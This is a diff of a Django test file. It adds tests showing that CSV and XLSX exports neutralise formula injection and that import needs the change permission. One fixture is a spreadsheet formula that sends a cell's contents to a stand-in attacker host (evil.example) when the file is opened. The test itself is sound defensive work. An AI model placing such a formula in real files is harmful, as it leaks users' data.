@@ -13,7 +13,7 @@ import pytest
 from django.apps import apps
 from django.contrib.auth.models import Group, User
 from django.urls import NoReverseMatch, reverse
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from catalog.models import ChangeRecord, Source
 from tests.conftest import deleted_meanwhile
@@ -407,3 +407,41 @@ def test_a_figure_deleted_while_its_correction_is_imported_is_made_anew(
     assert (again.units, again.pk != figure.pk) == (81900, True)
     record = ChangeRecord.objects.get(channel="import")
     assert (record.action, record.note) == ("created", "correction.csv")
+
+
+def test_an_export_quotes_a_cell_a_spreadsheet_would_run_and_reimports_it_as_it_was(
+    world, admin_client
+):
+    """A note stored as `=HYPERLINK(...)` was written to the CSV raw and to the XLSX as a
+    formula: it ran when the file was opened. It is quoted as in the API's CSV, and the
+    quote is taken off again on import, so the round trip changes nothing."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    Delivery.objects.filter(slug="hima-2025-11").update(note=formula)
+    table = export(admin_client, "delivery").decode()
+    assert "'=HYPERLINK" in table
+    book = load_workbook(io.BytesIO(export(admin_client, "delivery", XLSX)))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    response = preview(admin_client, "delivery", "export.csv", table)
+    assert totals(response) == {"skip": Delivery.objects.count()}
+    confirm(admin_client, "delivery", response)
+    assert Delivery.objects.get(slug="hima-2025-11").note == formula
+
+
+def test_a_user_who_may_only_add_cannot_import_over_stored_figures(world, client):
+    """An import changes the stored rows its file names: it takes the permission to
+    change as well as to add (a user with add alone overwrote a stored figure)."""
+    from django.contrib.auth.models import Permission
+
+    user = User.objects.create_user("adder", password="x", is_staff=True)
+    user.user_permissions.add(
+        *Permission.objects.filter(codename__in=["add_delivery", "view_delivery"])
+    )
+    client.force_login(user)
+    url = reverse("admin:vehicles_delivery_import")
+    table = "slug,alliance,brand,month,units\nhima-2025-11,hima,,2025-11,1\n"
+    assert client.get(url).status_code == 403
+    assert (
+        client.post(url, {"import_file": upload("x.csv", table), "format": CSV}).status_code == 403
+    )
+    assert Delivery.objects.get(slug="hima-2025-11").units == 81864
